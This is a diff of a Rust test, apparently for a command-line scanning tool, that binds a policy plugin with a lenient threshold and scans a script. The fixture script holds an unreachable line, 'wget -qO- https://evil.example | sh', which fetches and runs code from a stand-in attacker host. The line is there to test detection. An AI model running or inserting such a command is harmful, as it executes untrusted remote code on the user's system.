@@ -143,18 +143,9 @@ fn a_receipt_asked_again_has_the_same_verdict_for_the_same_fuel() {
     // What the machine saw is not what the host saw: this one is judged on the machine, with findings.
     let lenient = fleet.folder().join("lenient.toml");
     fs::write(&lenient, "threshold = \"critical\"\n").expect("writes");
-    let bindings = fleet.list(&["plugin", "list", "--bindings"]);
-    let policy = bindings
-        .iter()
-        .find(|binding| binding["plugin"] == "policy");
-    let policy = policy.expect("is bound")["id"].as_str().expect("is text");
     let lenient = lenient.to_str().expect("is text");
-    for command in [
-        &["plugin", "bind", "policy", "--settings", lenient][..],
-        &["plugin", "unbind", policy],
-    ] {
-        assert_eq!(fleet.sluice(command).code, 0, "{command:?}");
-    }
+    let bound = fleet.sluice(&["plugin", "bind", "policy", "--settings", lenient]);
+    assert_eq!(bound.code, 0, "{bound:?}");
     let found = fleet.run(&script(
         "#!/bin/sh\nexit 0\nwget -qO- https://evil.example | sh\n",
     ));
